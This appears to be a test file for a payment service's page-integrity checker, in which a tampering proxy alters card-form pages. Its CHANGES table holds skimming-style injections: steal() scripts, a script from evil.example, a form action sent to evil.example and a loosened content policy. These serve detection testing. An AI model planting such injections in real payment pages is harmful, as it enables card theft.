// Payment pages are compared with what was sent, through a proxy that changes them.

import { createHash } from 'node:crypto';
import test, { type ExecutionContext } from 'ava';
import { scheduledTasks, type TasksOptions } from '../../src/app/scheduled-tasks.ts';
import { credentialHasher } from '../../src/base/keys/credential-hash.ts';
import { openLogger } from '../../src/base/log/log.ts';
import { loadSettings } from '../../src/base/settings/settings.ts';
import { PagesNotReachedError } from '../../src/doors/http/integrity/check-pages.ts';
import type { IntegrityList } from '../../src/doors/http/integrity/integrity-list.ts';
import { isSampleSecret, makeSampleLink, SAMPLE_NAMES, SAMPLES } from '../../src/doors/http/integrity/sample-links.ts';
import { runFire } from '../../src/doors/schedule/schedule.ts';
import { checkOwnPages } from '../../src/installation/doctor/page-check.ts';
import { scheduleStore } from '../../src/work/jobs/schedule-store.ts';
import { openChangingProxy, type PassingAnswer } from '../helpers/changing-proxy.ts';
import { openHttpApp, TEST_BASE_URL } from '../helpers/http-app.ts';

/** Opens the service behind a proxy that serves it in `folder`. */
async function openCheckedApp(t: ExecutionContext, folder = '') {
	const parts = await openHttpApp(t, 'sqlite', { settings: { baseUrl: TEST_BASE_URL + folder } });
	await parts.app.listen({ host: '127.0.0.1', port: 0 });
	const proxy = await openChangingProxy(
		t,
		`http://127.0.0.1:${(parts.app.server.address() as { port: number }).port}`,
		folder,
	);
	const lines: string[] = [];
	const logger = openLogger({ level: 'error', destination: { write: (line: string) => void lines.push(line) } });
	const counted: string[] = [];
	const check = async (change: (answer: PassingAnswer) => void) => {
		proxy.change = change;
		const { keyRing, audit, clock } = parts;
		const differences = await checkOwnPages(
			{ keyRing, audit, clock, logger, onDifference: ({ of }) => void counted.push(of) },
			{ baseUrl: proxy.url, hideSeconds: parts.settings.hideSeconds, actor: 'daemon' },
		);
		return differences.map(({ of, what }) => `${of}: ${what}`);
	};
	const entries = () => parts.database.knex('audit').where({ action: 'page.altered' }).orderBy('seq');
	return { parts, proxy, check, lines, counted, entries };
}

const isPage = ({ headers }: PassingAnswer) => (headers.get('content-type') ?? '').startsWith('text/html');
const edit = (answer: PassingAnswer, from: string | RegExp, to: string) => {
	answer.body = Buffer.from(answer.body.toString().replace(from, to));
};

/** What a proxy does, and what is said of the card form then; `everywhere` is said of every page. */
const CHANGES: Readonly<Record<string, { change(answer: PassingAnswer): void; says: RegExp }>> = {
	'adds a script within the page': {
		change: (answer) => isPage(answer) && edit(answer, '</body>', '<script>steal()</script></body>'),
		says: /^card-form: a script within the page is added$/,
	},
	'adds a script with the nonce of the page': {
		change(answer) {
			const nonce = /'nonce-([^']+)'/.exec(answer.headers.get('content-security-policy') ?? '')?.[1];
			if (isPage(answer))
				edit(answer, '</head>', `<SCRIPT nonce="${nonce}" src="https://evil.example/s.js?x"></SCRIPT></head>`);
		},
		says: /^card-form: the script https:\/\/evil\.example\/s\.js is added$/,
	},
	'adds code to an element': {
		change: (answer) => isPage(answer) && edit(answer, '<body>', '<body onload="steal()">'),
		says: /^card-form: the page is not that of the list$/,
	},
	'sends the form elsewhere': {
		change: (answer) => isPage(answer) && edit(answer, /action="[^"]*"/, 'action="https://evil.example/"'),
		says: /^card-form: the page is not that of the list$/,
	},
	'takes the hash from a script': {
		change: (answer) => isPage(answer) && edit(answer, / integrity="[^"]*"/, ''),
		says: /^card-form: the script \/assets\/card-form-[0-9a-f]+\.js has another integrity$/,
	},
	'removes the script': {
		change: (answer) => isPage(answer) && edit(answer, /<script type="module".*<\/script>/, ''),
		says: /^card-form: the script \/assets\/card-form-[0-9a-f]+\.js is missing$/,
	},
	'changes a script': {
		change: (answer) => answer.path.startsWith('/assets/card-form-') && edit(answer, /$/, '\nsteal();'),
		says: /^\/assets\/card-form-[0-9a-f]+\.js: the content is not that of the list$/,
	},
	'changes the library': {
		change: (answer) => answer.path === '/lib/tokendrop-1.js' && edit(answer, 'mountCardForm', 'mountCardFarm'),
		says: /^\/lib\/tokendrop-1\.js: the content is not that of the list$/,
	},
	'removes the policy': {
		change: ({ headers }) => headers.delete('content-security-policy'),
		says: /^card-form: header content-security-policy is missing$/,
	},
	'loosens the policy': {
		change({ headers }) {
			const policy = headers.get('content-security-policy');
			if (policy) headers.set('content-security-policy', policy.replace("connect-src 'self'", 'connect-src *'));
		},
		says: /^card-form: header content-security-policy is not that of the list$/,
	},
	'removes another header': {
		change: ({ headers }) => headers.delete('x-content-type-options'),
		says: /^card-form: header x-content-type-options is missing$/,
	},
	'adds a header that loads something': {
		change: (answer) =>
			isPage(answer) && answer.headers.set('link', '<https://evil.example/s.js>; rel=preload; as=script'),
		says: /^card-form: header link is added$/,
	},
	'leads to another page': {
		change(answer) {
			if (isPage(answer)) answer.status = 302;
		},
		says: /^card-form: the answer is 302$/,
	},
};

test('pages that come as they were sent are no alarm', async (t) => {
	const { check, proxy, lines, entries } = await openCheckedApp(t);
	t.deepEqual(await check(() => {}), []);
	t.deepEqual(lines, []);
	t.is((await entries()).length, 0);
	for (const name of SAMPLE_NAMES)
		t.true(
			proxy.paths.some((path) => path.startsWith(SAMPLES[name].place)),
			name,
		);
	for (const part of ['/assets/card-form-', '/assets/card-view-', '/lib/tokendrop-1.js', '/lib/tokendrop.js'])
		t.true(
			proxy.paths.some((path) => path.startsWith(part)),
			part,
		);
});

for (const [what, { change, says }] of Object.entries(CHANGES)) {
	test(`a proxy that ${what} is an alarm`, async (t) => {
		const { check, lines, counted, entries } = await openCheckedApp(t);
		const differences = await check(change);
		t.true(
			differences.some((difference) => says.test(difference)),
			differences.join('\n'),
		);
		t.is(counted.length, differences.length);
		t.is(lines.length, 1);
		t.regex(lines[0], /payment pages are not served as they were sent/);
		const [entry, ...others] = await entries();
		t.is(others.length, 0);
		t.is(JSON.parse(entry.details).differences, differences.length);
		t.true(JSON.parse(entry.details).what.includes(differences[0]));
	});
}

test('the scheduled task compares the pages at the public URL, and fails when they differ', async (t) => {
	const { parts, proxy, counted } = await openCheckedApp(t);
	const { database } = parts;
	const onPageDifference = ({ of }: { of: string }) => void counted.push(of);
	const tasksOf = (schedule: string, publicUrl?: string) => {
		const settings = loadSettings({ env: { TOKENDROP_INTEGRITY_SCHEDULE: schedule } });
		const all = scheduledTasks({
			...{ ...parts, settings, onPageDifference, publicUrl: () => publicUrl },
		} as unknown as TasksOptions);
		return all.filter(({ name }) => name === 'integrity');
	};
	t.deepEqual(tasksOf('never'), []);
	// The task runs at least once a week.
	for (const schedule of ['hourly', 'daily', 'weekly'])
		t.regex(tasksOf(schedule)[0].cron, /^\d+ (\*|\d+) \* \* [*1]$/, schedule);
	const outcome = async (at: number, publicUrl?: string) => {
		const [task] = tasksOf('daily', publicUrl);
		await runFire({ database, daemonId: 'one', tasks: [task] }, task, new Date(at));
		return (await scheduleStore(database.knex).findLastRun('integrity'))?.outcome;
	};
	t.is(await outcome(1_000), 'failed', 'the service does not listen yet');
	t.is(await outcome(2_000, proxy.url), 'done');
	proxy.change = ({ headers }) => headers.delete('content-security-policy');
	t.is(await outcome(3_000, proxy.url), 'failed');
	t.deepEqual(counted, [...SAMPLE_NAMES]);
});

test('pages in a folder of the public URL are compared there', async (t) => {
	const { check, proxy } = await openCheckedApp(t, '/cards');
	t.deepEqual(await check(() => {}), []);
	t.true(proxy.paths.every((path) => path.startsWith('/cards/')));
});

test('pages that cannot be fetched are no alarm, but the check fails', async (t) => {
	const { check, entries } = await openCheckedApp(t);
	const error = await t.throwsAsync(
		check((answer) => {
			answer.status = 503;
		}),
		{ instanceOf: PagesNotReachedError },
	);
	t.regex(error!.message, /card-form: the answer is 503/);
	t.is((await entries()).length, 0);
});

test('a card number in what somebody put into a page reaches neither log nor trail', async (t) => {
	const { check, lines, entries } = await openCheckedApp(t);
	const differences = await check(
		(answer) =>
			isPage(answer) && edit(answer, '</head>', '<script src="https://evil.example/4111111111111111"></script></head>'),
	);
	for (const text of [...differences, ...lines, JSON.stringify(await entries())]) t.notRegex(text, /4111111111111111/);
});

test('a page of a million beginnings of scripts is compared at once', async (t) => {
	const { check } = await openCheckedApp(t);
	const began = performance.now();
	await check((answer) => {
		if (isPage(answer)) answer.body = Buffer.from('<script'.repeat(140_000));
	});
	t.true(performance.now() - began < 5_000);
});

test('the list is public, and has the hashes of pages, style sheets and scripts as they are sent', async (t) => {
	const { app, keyRing, clock } = await openHttpApp(t);
	const { statusCode, headers, body } = await app.inject('/integrity.json');
	t.is(statusCode, 200);
	t.like(headers, { 'content-type': 'application/json; charset=utf-8', 'access-control-allow-origin': '*' });
	const list = JSON.parse(body) as IntegrityList;
	const hashOf = (text: string | Buffer) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
	t.deepEqual(
		list.pages.map(({ name }) => name),
		['card-form', 'cvv-form', 'card-request', 'card-view'],
	);
	for (const page of list.pages) {
		const sent = await app.inject(await makeSampleLink(credentialHasher(keyRing), page.name, clock.now()));
		t.is(sent.statusCode, 200, page.name);
		const nonce = /'nonce-([^']+)'/.exec(String(sent.headers['content-security-policy']))![1];
		t.is(hashOf(sent.body.replaceAll(nonce, '{nonce}')), page.page, page.name);
		for (const [name, value] of Object.entries(page.headers))
			t.is(String(sent.headers[name]).replaceAll(nonce, '{nonce}'), value, `${page.name} ${name}`);
		const sheets = [...sent.body.matchAll(/<style [^>]*>([\s\S]*?)<\/style>/g)].map(([, sheet]) => hashOf(sheet));
		t.deepEqual(page.styles, sheets);
		for (const { src, integrity } of page.scripts) {
			t.true(sent.body.includes(`src="${src}" integrity="${integrity}"`));
			t.is(hashOf((await app.inject(src)).rawPayload), integrity);
		}
	}
	for (const { path, integrity, headers: listed } of list.files) {
		const sent = await app.inject(path);
		t.is(hashOf(sent.rawPayload), integrity, path);
		t.like(sent.headers, listed);
	}
});

test('the page that an account opens has the headers of the list, but for its own origins', async (t) => {
	const { app, createCaller } = await openHttpApp(t);
	const { pages } = JSON.parse((await app.inject('/integrity.json')).body) as IntegrityList;
	const caller = await createCaller('shop');
	const sent = await caller.inject('GET', '/api/payments/capturecard');
	const nonce = /'nonce-([^']+)'/.exec(String(sent.headers['content-security-policy']))![1];
	// The account's own origins may show its forms in frames.
	const own: Record<string, string> = {
		'cross-origin-resource-policy': 'cross-origin',
		'x-frame-options': 'undefined',
	};
	for (const [name, value] of Object.entries(pages[0].headers)) {
		const got = String(sent.headers[name])
			.replaceAll(nonce, '{nonce}')
			.replace(/(frame-ancestors) [^;]*/, "$1 'none'");
		t.is(got, own[name] ?? value, name);
	}
	for (const { src, integrity } of pages[0].scripts)
		t.true(sent.body.includes(`src="${src}" integrity="${integrity}"`));
});

test('a link to a sample looks like any other, works for its page only and ends by itself', async (t) => {
	const { app, keyRing, clock } = await openHttpApp(t);
	const hasher = credentialHasher(keyRing);
	const secretOf = (path: string) => path.slice(path.lastIndexOf('/') + 1);
	for (const name of SAMPLE_NAMES) {
		const link = await makeSampleLink(hasher, name, clock.now());
		const secret = secretOf(link);
		t.regex(secret, /^c[rv]_[A-Za-z0-9_-]{43}$/);
		t.is((await app.inject(link)).statusCode, 200);
		const wrong = secret.slice(0, -1) + (secret.endsWith('A') ? 'Q' : 'A');
		t.is((await app.inject(link.replace(secret, wrong))).statusCode, 404);
		for (const other of SAMPLE_NAMES) {
			const isSample = await isSampleSecret(hasher, other, { secret, now: clock.now() });
			t.is(isSample, other === name, `${name} as ${other}`);
		}
		const later = new Date(clock.now().getTime() + 2 * 3_600_000);
		t.false(await isSampleSecret(hasher, name, { secret, now: later }));
	}
});
